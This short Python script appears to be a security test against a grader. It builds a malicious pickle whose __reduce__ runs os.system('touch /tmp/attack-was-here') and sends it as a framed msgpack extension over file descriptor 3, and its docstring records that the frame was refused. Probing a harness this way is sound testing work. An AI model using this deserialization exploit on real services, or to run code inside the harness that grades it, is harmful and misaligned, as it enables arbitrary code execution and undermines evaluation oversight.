"""Sends a pickle that would run code in the grader, as a header and as a msgpack extension.

Observed: nothing is unpickled; the frame is refused.
Says: something that is no answer
"""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


code = pickle.dumps(Bomb())
header = b"\xc8" + struct.pack(">H", len(code)) + b"\x01" + code
os.write(3, struct.pack("<4sIQ", b"cnn1", len(header), 0) + header)
